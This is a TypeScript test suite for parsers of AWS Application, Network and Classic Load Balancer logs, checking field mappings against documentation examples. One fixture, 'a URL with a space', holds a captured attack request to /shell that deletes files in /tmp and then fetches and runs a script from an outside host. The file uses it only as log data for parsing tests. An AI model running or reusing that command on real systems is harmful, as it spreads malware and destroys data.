import { ALB_ACCESS, parseAlbAccess } from "../../../core/parsers/alb-access";
import { parseAlbConnection } from "../../../core/parsers/alb-connection";
import { parseAlbHealthCheck } from "../../../core/parsers/alb-health-check";
import { splitDelimited } from "../../../core/parsers/delimited";
import { parseElbAccess } from "../../../core/parsers/elb-access";
import { NLB_TLS, parseNlbTls } from "../../../core/parsers/nlb-tls";
import type { MessageParser } from "../../../core/parsers/parsed-message";
import { flatFields } from "../../support/flat-fields";

const fieldsOf = (parse: MessageParser, line: string) => {
  const parsed = parse(line);
  return parsed && flatFields(parsed.fields);
};

const TARGETS = "arn:aws:elasticloadbalancing:us-east-2:123456789012:targetgroup/my-targets/73e2d6bc24d8a067";
const CERTIFICATE = "arn:aws:acm:us-east-2:123456789012:certificate/12345678-1234-1234-1234-123456789012";

/** "Access logs for your Application Load Balancer", Example HTTPS entry, with the fields that were added since. */
const HTTPS =
  "https 2018-07-02T22:23:00.186641Z app/my-loadbalancer/50dc6c495c0c9188 192.168.131.39:2817 10.0.0.1:80 0.086 0.048 0.037 200 200 0 57 " +
  `"GET https://www.example.com:443/ HTTP/1.1" "curl/7.46.0" ECDHE-RSA-AES128-GCM-SHA256 TLSv1.2 ${TARGETS} ` +
  `"Root=1-58337281-1d84f3d73c47ec4e58577259" "www.example.com" "${CERTIFICATE}" 1 2018-07-02T22:22:48.364000Z "authenticate,forward" ` +
  '"-" "-" "10.0.0.1:80" "200" "-" "-" TID_1234abcd5678ef90 "www.example.org" "/new" "TransformSuccess" 10.0.0.9';

/** By the names of Elastic's integration `aws`, data_stream/elb_logs; it has none for the last five. */
const HTTPS_FIELDS = {
  "event.dataset": "aws.alb_access",
  "event.start": "2018-07-02T22:22:48.364000Z",
  "event.end": "2018-07-02T22:23:00.186641Z",
  "event.duration": 11_822_641_000,
  "event.outcome": "success",
  "source.address": "192.168.131.39",
  "source.ip": "192.168.131.39",
  "source.port": 2817,
  "destination.domain": "www.example.com",
  "http.request.method": "GET",
  "http.request.bytes": 0,
  "http.response.bytes": 57,
  "http.response.status_code": 200,
  "http.version": "1.1",
  "url.original": "https://www.example.com:443/",
  "url.scheme": "https",
  "url.domain": "www.example.com",
  "url.port": 443,
  "url.path": "/",
  "user_agent.original": "curl/7.46.0",
  "tls.cipher": "ECDHE-RSA-AES128-GCM-SHA256",
  "tls.version": "1.2",
  "tls.version_protocol": "tls",
  "trace.id": "Root=1-58337281-1d84f3d73c47ec4e58577259",
  "aws.elb.type": "https",
  "aws.elb.name": "app/my-loadbalancer/50dc6c495c0c9188",
  "aws.elb.backend.ip": "10.0.0.1",
  "aws.elb.backend.port": 80,
  "aws.elb.backend.http.response.status_code": 200,
  "aws.elb.request_processing_time.sec": 0.086,
  "aws.elb.backend_processing_time.sec": 0.048,
  "aws.elb.response_processing_time.sec": 0.037,
  "aws.elb.ssl_cipher": "ECDHE-RSA-AES128-GCM-SHA256",
  "aws.elb.ssl_protocol": "TLSv1.2",
  "aws.elb.target_group.arn": TARGETS,
  "aws.elb.trace_id": "Root=1-58337281-1d84f3d73c47ec4e58577259",
  "aws.elb.chosen_cert.arn": CERTIFICATE,
  "aws.elb.matched_rule_priority": 1,
  "aws.elb.action_executed": ["authenticate", "forward"],
  "aws.elb.target_port": ["10.0.0.1:80"],
  "aws.elb.target_status_code": ["200"],
  "aws.elb.conn_trace_id": "TID_1234abcd5678ef90",
  "aws.elb.transformed_host": "www.example.org",
  "aws.elb.transformed_uri": "/new",
  "aws.elb.request_transform_status": "TransformSuccess",
  "aws.elb.ip_address": "10.0.0.9",
};

describe("an ALB's access log", () => {
  it("has each field where ECS or Elastic's integration has it", () => {
    expect(fieldsOf(parseAlbAccess, HTTPS)).toEqual(HTTPS_FIELDS);
    expect(parseAlbAccess(HTTPS)?.time).toBe(Date.parse("2018-07-02T22:23:00.186Z"));
  });

  it("takes the JSON form, whose numbers may be numbers or texts", () => {
    const texts = splitDelimited(HTTPS).map((text, i) => [ALB_ACCESS.names[i], text] as const);
    const members = Object.fromEntries(texts);
    expect(fieldsOf(parseAlbAccess, JSON.stringify(members))).toEqual(HTTPS_FIELDS);
    const numbers = { elb_status_code: 200, received_bytes: 0, request_processing_time: 0.086, error_reason: null };
    expect(fieldsOf(parseAlbAccess, JSON.stringify({ ...members, ...numbers }))).toEqual(HTTPS_FIELDS);
    const exact = JSON.stringify(members).replace('"0.086"', "0.0860");
    expect(JSON.stringify(parseAlbAccess(exact))).toContain('"request_processing_time":{"sec":{"text":"0.0860"}}');
    expect(fieldsOf(parseAlbAccess, JSON.stringify({ ...members, new_field: "new" }))).toEqual({
      ...HTTPS_FIELDS,
      "aws.elb.additional_fields": ["new_field=new"],
    });
  });

  // The page's other examples, and lines of Elastic's integration: data_stream/elb_logs/_dev/test/pipeline/test-alb.log.
  it.each([
    [
      "a target that is a function and failed",
      `http 2018-11-30T22:23:00.186641Z app/my-loadbalancer/50dc6c495c0c9188 192.168.131.39:2817 - 0.000 0.001 0.000 502 - 34 366 "GET http://www.example.com:80/ HTTP/1.1" "curl/7.46.0" - - ${TARGETS} "Root=1-58337364-23a8c76965a2ef7629b185e3" "-" "-" 0 2018-11-30T22:22:48.364000Z "forward" "-" "LambdaInvalidResponse"`,
      { "event.outcome": "failure", "http.response.status_code": 502, "aws.elb.error.reason": "LambdaInvalidResponse" },
      ["aws.elb.backend.ip", "aws.elb.backend.http.response.status_code", "tls.cipher", "aws.elb.target_port"],
    ],
    [
      "an HTTP/2 stream with a redirect",
      `h2 2018-07-02T22:23:00.186641Z app/my-loadbalancer/50dc6c495c0c9188 10.0.1.252:48160 10.0.0.66:9000 0.000 0.002 0.000 200 200 5 257 "GET https://10.0.2.105:773/ HTTP/2.0" "curl/7.46.0" ECDHE-RSA-AES128-GCM-SHA256 TLSv1.2 ${TARGETS} "Root=1-58337327-72bd00b0343d75b906739c42" "-" "-" 1 2018-07-02T22:22:48.364000Z "redirect" "https://example.com:80/" "-"`,
      {
        "aws.elb.type": "h2",
        "http.version": "2.0",
        "aws.elb.redirect_url": "https://example.com:80/",
        "url.port": 773,
      },
      ["destination.domain"],
    ],
    [
      "a WebSockets connection",
      `ws 2018-07-02T22:23:00.186641Z app/my-loadbalancer/50dc6c495c0c9188 10.0.0.140:40914 10.0.1.192:8010 0.001 0.003 0.000 101 101 218 587 "GET http://10.0.0.30:80/ HTTP/1.1" "-" - - ${TARGETS} "Root=1-58337364-23a8c76965a2ef7629b185e3" "-" "-" 1 2018-07-02T22:22:48.364000Z "forward" "-" "-"`,
      { "aws.elb.type": "ws", "event.outcome": "success", "http.response.status_code": 101 },
      ["user_agent.original"],
    ],
    [
      "a URL with a space, and no target",
      'http 2022-05-12T06:41:29.051646Z app/admin-LoadB-1EGHQRJIOLMFR/3011821a43ee0c5e 67.43.156.20:41542 - -1 -1 -1 301 - 233 390 "GET http://127.0.0.1:80/shell?cd+/tmp;rm+-rf+*;wget+ a.tigoinari.tk/jaws;sh+/tmp/jaws HTTP/1.1" "Hello, world" - - - "Root=1-627cac19-4c6df30820daa80e3fd72ced" "-" "-" 0 2022-05-12T06:41:29.051000Z "redirect" "https://127.0.0.1:443/shell?cd+/tmp;rm+-rf+*;wget+ a.tigoinari.tk/jaws;sh+/tmp/jaws" "-" "-" "-" "Acceptable" "SpaceInUri"',
      {
        "url.path": "/shell",
        "url.query": "cd+/tmp;rm+-rf+*;wget+ a.tigoinari.tk/jaws;sh+/tmp/jaws",
        "user_agent.original": "Hello, world",
        "aws.elb.classification_reason": "SpaceInUri",
      },
      ["aws.elb.request_processing_time.sec", "aws.elb.target_group.arn", "aws.elb.additional_fields"],
    ],
    [
      "a malformed request",
      'http 2025-05-01T11:24:32.748149Z app/internal-service-alb/abcd1234efgh5678 127.0.0.1:57273 - -1 -1 -1 200 - 0 272 "- http://internal-service-alb.example.com:80-/ " "-" - - - "-" "-" "-" - 2025-05-01T11:24:32.720000Z "-" "-" "-" "-" "-" "-" "-" TID_00000000000000000000000000000000',
      { "url.domain": "internal-service-alb.example.com", "url.port": 80, "url.path": "/" },
      ["http.request.method", "http.version", "trace.id", "aws.elb.matched_rule_priority"],
    ],
    // awslogsencodingextension of OpenTelemetry, elb-access-log/testdata/alb_al_valid_logs.log.
    [
      "IPv6",
      HTTPS.replace("192.168.131.39:2817 10.0.0.1:80", "[fe80::202:b3ff:fe1e:8329]:443 [2001:db8::1]:80"),
      { "source.ip": "fe80::202:b3ff:fe1e:8329", "source.port": 443, "aws.elb.backend.ip": "2001:db8::1" },
      [],
    ],
    // DataBiosphere/azul #4920: a quote of the client's.
    [
      "an escaped quote",
      HTTPS.replace("443/ HTTP/1.1", String.raw`443/a?bar=\x22 HTTP/2.0`),
      { "url.query": String.raw`bar=\x22`, "url.path": "/a", "http.version": "2.0" },
      [],
    ],
    [
      "more fields than AWS documents, and the dashes that precede a new one",
      `${HTTPS} - "new field" "-"`,
      { "aws.elb.ip_address": "10.0.0.9", "aws.elb.additional_fields": ["new field"] },
      [],
    ],
    [
      "as many fields as in 2016",
      HTTPS.slice(0, HTTPS.indexOf(' "www.example.com"')),
      { "trace.id": "Root=1-58337281-1d84f3d73c47ec4e58577259" },
      ["event.start", "event.duration"],
    ],
    ["a rule that failed", HTTPS.replace('" 1 2018', '" -1 2018'), {}, ["aws.elb.matched_rule_priority"]],
    [
      "targets tried in turn",
      HTTPS.replace('"10.0.0.1:80" "200"', '"10.0.0.1:80 10.0.0.2:80" "- 200"'),
      {
        "aws.elb.target_port": ["10.0.0.1:80", "10.0.0.2:80"],
        "aws.elb.target_status_code": ["-", "200"],
      },
      [],
    ],
  ])("has %s", (_, line, expected, absent) => {
    const fields = fieldsOf(parseAlbAccess, line);
    expect(fields).toMatchObject(expected);
    expect(Object.keys(fields ?? {}).filter((name) => (absent as string[]).includes(name))).toEqual([]);
  });

  it.each([
    "Enable AccessLog for ELB: my-loadbalancer at 2026-11-27T05:00:00Z",
    '{"type":"http","time":"2026-11-27T05:00:00Z"}',
    '{"type":"http","time":"2026-11-27T05:00:00Z","elb":{"id":"app/a/b"}}',
    '{"type":"http"',
    "http 2026-02-30T05:00:00Z app/my-loadbalancer/50dc6c495c0c9188 192.168.131.39:2817",
    "",
  ])("leaves other messages alone: %s", (message) => {
    expect(parseAlbAccess(message)).toBeUndefined();
  });
});

describe("an ALB's connection log", () => {
  // Elastic's test lines, as above; names of certificates are ECS's, of which the integration has no version that was stored.
  const VERIFIED =
    '2024-10-04T17:05:15.514108Z 192.168.131.39 36280 443 TLSv1.2 ECDHE-RSA-AES128-GCM-SHA256 4.036 "CN=amazondomains.com,O=endEntity,L=Seattle,ST=Washington,C=US" NotBefore=2023-09-21T22:43:21Z;NotAfter=2026-06-17T22:43:21Z FEF257372D5C14D4 Success';

  it("has each field where ECS has it, or under AWS's name", () => {
    expect(
      fieldsOf(parseAlbConnection, `${VERIFIED} TID_3180a73013c8ca4bac2f731159d4b0fe x25519 app/a/b 10.0.0.9`),
    ).toEqual({
      "event.dataset": "aws.alb_connection",
      "event.end": "2024-10-04T17:05:15.514108Z",
      "event.duration": 4_036_000_000,
      "event.outcome": "success",
      "source.address": "192.168.131.39",
      "source.ip": "192.168.131.39",
      "source.port": 36280,
      "destination.port": 443,
      "tls.version": "1.2",
      "tls.version_protocol": "tls",
      "tls.cipher": "ECDHE-RSA-AES128-GCM-SHA256",
      "tls.client.subject": "CN=amazondomains.com,O=endEntity,L=Seattle,ST=Washington,C=US",
      "tls.client.not_before": "2023-09-21T22:43:21Z",
      "tls.client.not_after": "2026-06-17T22:43:21Z",
      "tls.client.x509.serial_number": "FEF257372D5C14D4",
      "aws.elb.ssl_protocol": "TLSv1.2",
      "aws.elb.ssl_cipher": "ECDHE-RSA-AES128-GCM-SHA256",
      "aws.elb.tls_handshake_latency.sec": 4.036,
      "aws.elb.tls_verify_status": "Success",
      "aws.elb.conn_trace_id": "TID_3180a73013c8ca4bac2f731159d4b0fe",
      "aws.elb.tls_keyexchange": "x25519",
      "aws.elb.name": "app/a/b",
      "aws.elb.ip_address": "10.0.0.9",
    });
  });

  it("may have no certificate, no TLS and fewer fields", () => {
    const failed = VERIFIED.replace("4.036", "-").replace("Success", "Failed:ClientCertUntrusted");
    expect(fieldsOf(parseAlbConnection, failed)).toMatchObject({ "event.outcome": "failure" });
    expect(
      fieldsOf(
        parseAlbConnection,
        '2024-11-29T13:45:24.599544Z 172.31.43.26 58206 80 - - - "-" - - - TID_16132ed0b4112148',
      ),
    ).toEqual({
      "event.dataset": "aws.alb_connection",
      "event.end": "2024-11-29T13:45:24.599544Z",
      "source.address": "172.31.43.26",
      "source.ip": "172.31.43.26",
      "source.port": 58206,
      "destination.port": 80,
      "aws.elb.conn_trace_id": "TID_16132ed0b4112148",
    });
  });

  it("takes the JSON form", () => {
    const members = { time: "2024-11-29T13:45:24.599544Z", client_ip: "::1", client_port: 58206, listener_port: "80" };
    expect(fieldsOf(parseAlbConnection, JSON.stringify(members))).toMatchObject({
      "source.ip": "::1",
      "source.port": 58206,
    });
  });
});

it("takes no connection log for a line whose client is no address", () => {
  expect(parseAlbConnection("2024-11-29T13:45:24.599544Z localhost 58206 80 -")).toBeUndefined();
});

describe("an ALB's health check log", () => {
  // "Health check logs" in the user guide, Example log entries; the last two fields are those of the vended log.
  it("has each field where ECS has it, or under AWS's name", () => {
    const line =
      "http 2025-10-31T12:44:59.875678Z 0.019584011 172.31.20.97:80 HealthCheckLogsTarget PASS 200 - app/a/b 10.0.0.9";
    const fields = {
      "event.dataset": "aws.alb_health_check",
      "event.end": "2025-10-31T12:44:59.875678Z",
      "event.duration": 19_584_011,
      "event.outcome": "success",
      "aws.elb.type": "http",
      "aws.elb.latency.sec": 0.019584011,
      "aws.elb.target_addr": "172.31.20.97:80",
      "aws.elb.backend.ip": "172.31.20.97",
      "aws.elb.backend.port": 80,
      "aws.elb.backend.http.response.status_code": 200,
      "aws.elb.target_group_id": "HealthCheckLogsTarget",
      "aws.elb.status": "PASS",
      "aws.elb.name": "app/a/b",
      "aws.elb.ip_address": "10.0.0.9",
    };
    expect(fieldsOf(parseAlbHealthCheck, line)).toEqual(fields);
    const members = {
      ...{ type: "http", time: "2025-10-31T12:44:59.875678Z", latency: "0.019584011", target_addr: "172.31.20.97:80" },
      ...{ target_group_id: "HealthCheckLogsTarget", status: "PASS", status_code: "200", reason_code: "-" },
      ...{ elb: "app/a/b", ip_address: "10.0.0.9" },
    };
    expect(fieldsOf(parseAlbHealthCheck, JSON.stringify(members))).toEqual(fields);
  });

  it("has the function that is a target", () => {
    const target = "arn:aws:lambda:us-east-1:123456789012:function:checked:12";
    const line = `lambda 2025-10-31T12:44:59.875678Z 0.02 ${target} HealthCheckLogsTarget PASS 200 -`;
    expect(fieldsOf(parseAlbHealthCheck, line)).toMatchObject({ "aws.elb.target_addr": target });
    expect(fieldsOf(parseAlbHealthCheck, line)).not.toHaveProperty(["aws.elb.backend.port"]);
  });

  it("says why a check failed", () => {
    const line =
      "https 2025-10-31T12:44:58.901409Z 1.121980746 172.31.31.9:443 HealthCheckLogsTarget FAIL 502 TargetError";
    expect(fieldsOf(parseAlbHealthCheck, line)).toMatchObject({
      "event.outcome": "failure",
      "aws.elb.reason_code": "TargetError",
    });
  });
});

describe("an NLB's access log", () => {
  // "Access logs for your Network Load Balancer" in its user guide, Example log entries.
  const ALPN =
    "tls 2.0 2020-04-01T08:51:42 net/my-network-loadbalancer/c6e77e28c25b2234 g3d4b5e8bb8464cd 72.21.218.154:51341 172.100.100.185:443 5 2 98 246 - " +
    "arn:aws:acm:us-east-2:671290407336:certificate/2a108f19-aded-46b0-8493-c63eb1ef4a99 - ECDHE-RSA-AES128-SHA tlsv12 - " +
    'my-network-loadbalancer-c6e77e28c25b2234.elb.us-east-2.amazonaws.com h2 h2 "h2","http/1.1" 2020-04-01T08:51:20';

  it("has each field where ECS or Elastic's integration has it", () => {
    expect(fieldsOf(parseNlbTls, ALPN)).toEqual({
      "event.dataset": "aws.nlb_tls",
      "event.start": "2020-04-01T08:51:20Z",
      "event.end": "2020-04-01T08:51:42Z",
      "event.duration": 5_000_000,
      "source.address": "72.21.218.154",
      "source.ip": "72.21.218.154",
      "source.port": 51341,
      "source.bytes": 98,
      "destination.address": "172.100.100.185",
      "destination.ip": "172.100.100.185",
      "destination.port": 443,
      "destination.bytes": 246,
      "destination.domain": "my-network-loadbalancer-c6e77e28c25b2234.elb.us-east-2.amazonaws.com",
      "tls.cipher": "ECDHE-RSA-AES128-SHA",
      "tls.version": "1.2",
      "tls.version_protocol": "tls",
      "tls.next_protocol": "h2",
      "aws.elb.type": "tls",
      "aws.elb.version": "2.0",
      "aws.elb.name": "net/my-network-loadbalancer/c6e77e28c25b2234",
      "aws.elb.listener": "g3d4b5e8bb8464cd",
      "aws.elb.connection_time.ms": 5,
      "aws.elb.tls_handshake_time.ms": 2,
      "aws.elb.chosen_cert.arn": "arn:aws:acm:us-east-2:671290407336:certificate/2a108f19-aded-46b0-8493-c63eb1ef4a99",
      "aws.elb.ssl_cipher": "ECDHE-RSA-AES128-SHA",
      "aws.elb.ssl_protocol": "tlsv12",
      "aws.elb.alpn_be_protocol": "h2",
      "aws.elb.alpn_client_preference_list": ["h2", "http/1.1"],
    });
    expect(parseNlbTls(ALPN)?.time).toBe(Date.UTC(2020, 3, 1, 8, 51, 42));
  });

  it("may be of version 1.0, and of a connection that TLS did not begin", () => {
    const old = ALPN.replace("tls 2.0", "tls 1.0").replace(/ h2 h2 .*$/, "");
    expect(fieldsOf(parseNlbTls, old)).toMatchObject({ "aws.elb.version": "1.0", "event.end": "2020-04-01T08:51:42Z" });
    // Elastic's test line.
    const silent =
      "tls 2.0 2024-10-25T17:33:59 net/XXXXX-XXXX-XXX-us-east-2/c88927aafc9abafe 52878890095341b5 192.168.131.39:2817 10.0.0.1:80 0 - 0 0 - - - - - - - - - - 2024-10-25T17:33:59";
    expect(fieldsOf(parseNlbTls, silent)).not.toHaveProperty(["tls.version"]);
    expect(fieldsOf(parseNlbTls, silent)).toMatchObject({ "source.bytes": 0, "event.start": "2024-10-25T17:33:59Z" });
  });

  it("takes the JSON form", () => {
    const members = Object.fromEntries(splitDelimited(ALPN).map((text, i) => [NLB_TLS.names[i], text]));
    const json = JSON.stringify({ ...members, alpn_client_preference_list: '"h2","http/1.1"' });
    expect(fieldsOf(parseNlbTls, json)).toEqual(fieldsOf(parseNlbTls, ALPN));
  });

  it("has the name of a server decoded", () => {
    expect(
      fieldsOf(parseNlbTls, ALPN.replace("my-network-loadbalancer-c6e77e28c25b2234.elb", "m%C3%BCnchen")),
    ).toMatchObject({
      "destination.domain": "münchen.us-east-2.amazonaws.com",
    });
  });
});

describe("a Classic Load Balancer's access log", () => {
  // "Access logs for your Classic Load Balancer" in its user guide, Examples.
  const HTTP =
    '2015-05-13T23:39:43.945958Z my-loadbalancer 192.168.131.39:2817 10.0.0.1:80 0.000086 0.001048 0.001337 200 200 0 57 "GET https://www.example.com:443/ HTTP/1.1" "curl/7.38.0" DHE-RSA-AES128-SHA TLSv1.2';
  const TCP =
    '2015-05-13T23:39:43.945958Z my-loadbalancer 192.168.131.39:2817 10.0.0.1:80 0.001069 0.000028 0.000041 - - 82 305 "- - - " "-" - -';
  const BOTH = {
    "event.dataset": "aws.elb_access",
    "event.start": "2015-05-13T23:39:43.945958Z",
    "source.address": "192.168.131.39",
    "source.ip": "192.168.131.39",
    "source.port": 2817,
    "aws.elb.name": "my-loadbalancer",
    "aws.elb.backend.ip": "10.0.0.1",
    "aws.elb.backend.port": 80,
  };

  it("has each field of an HTTPS listener where ECS or Elastic's integration has it", () => {
    expect(fieldsOf(parseElbAccess, HTTP)).toEqual({
      ...BOTH,
      "event.outcome": "success",
      "http.request.method": "GET",
      "http.request.body.bytes": 0,
      "http.response.body.bytes": 57,
      "http.response.status_code": 200,
      "http.version": "1.1",
      "url.original": "https://www.example.com:443/",
      "url.scheme": "https",
      "url.domain": "www.example.com",
      "url.port": 443,
      "url.path": "/",
      "user_agent.original": "curl/7.38.0",
      "tls.cipher": "DHE-RSA-AES128-SHA",
      "tls.version": "1.2",
      "tls.version_protocol": "tls",
      "aws.elb.backend.http.response.status_code": 200,
      "aws.elb.request_processing_time.sec": 0.000086,
      "aws.elb.backend_processing_time.sec": 0.001048,
      "aws.elb.response_processing_time.sec": 0.001337,
      "aws.elb.ssl_cipher": "DHE-RSA-AES128-SHA",
      "aws.elb.ssl_protocol": "TLSv1.2",
    });
  });

  it("has the bytes of a TCP listener, and nothing of HTTP", () => {
    expect(fieldsOf(parseElbAccess, TCP)).toEqual({
      ...BOTH,
      "source.bytes": 82,
      "destination.bytes": 305,
      "aws.elb.request_processing_time.sec": 0.001069,
      "aws.elb.backend_processing_time.sec": 0.000028,
      "aws.elb.response_processing_time.sec": 0.000041,
    });
  });

  it("may end after the request, and have no backend", () => {
    const old = HTTP.replace("10.0.0.1:80", "-").replace(/ "curl.*$/, "");
    expect(fieldsOf(parseElbAccess, old)).toMatchObject({ "url.path": "/", "http.response.body.bytes": 57 });
    expect(fieldsOf(parseElbAccess, old)).not.toHaveProperty(["aws.elb.backend.ip"]);
  });

  it("keeps a client's quotes as they are written", () => {
    // awslabs/athena-glue-service-logs #3.
    const line = String.raw`2018-12-13T15:16:57.132252Z elb-name 93.113.124.199:44444 10.25.30.166:80 0.000048 0.000504 0.000025 301 301 0 178 "GET http://10.25.25.42:80/ HTTP/1.0" "\"nlpproject.info research\"" - -`;
    expect(fieldsOf(parseElbAccess, line)).toMatchObject({
      "user_agent.original": String.raw`\"nlpproject.info research\"`,
      "http.response.body.bytes": 178,
    });
  });
});

describe("each ELB format", () => {
  it("leaves the lines of the others alone", () => {
    const parsers = { parseAlbAccess, parseAlbConnection, parseAlbHealthCheck, parseNlbTls, parseElbAccess };
    const lines = {
      parseAlbAccess: HTTPS,
      parseAlbConnection: '2024-11-29T13:45:24.599544Z 172.31.43.26 58206 80 - - - "-" - - - TID_16132ed0b4112148',
      parseAlbHealthCheck: "http 2025-10-31T12:44:59.875678Z - 172.31.20.97:80 HealthCheckLogsTarget PASS 200 -",
      parseNlbTls:
        "tls 2.0 2020-04-01T08:51:42 net/a/b c 72.21.218.154:51341 172.100.100.185:443 5 2 98 246 - - - - - -",
      parseElbAccess:
        '2015-05-13T23:39:43.945958Z my-lb 192.168.131.39:2817 - -1 -1 -1 503 0 0 0 "GET http://a:80/ HTTP/1.1"',
    };
    for (const [name, line] of Object.entries(lines)) {
      const by = Object.entries(parsers).filter(([, parse]) => parse(line) !== undefined);
      expect([name, by.map(([parser]) => parser)]).toEqual([name, [name]]);
    }
  });
});
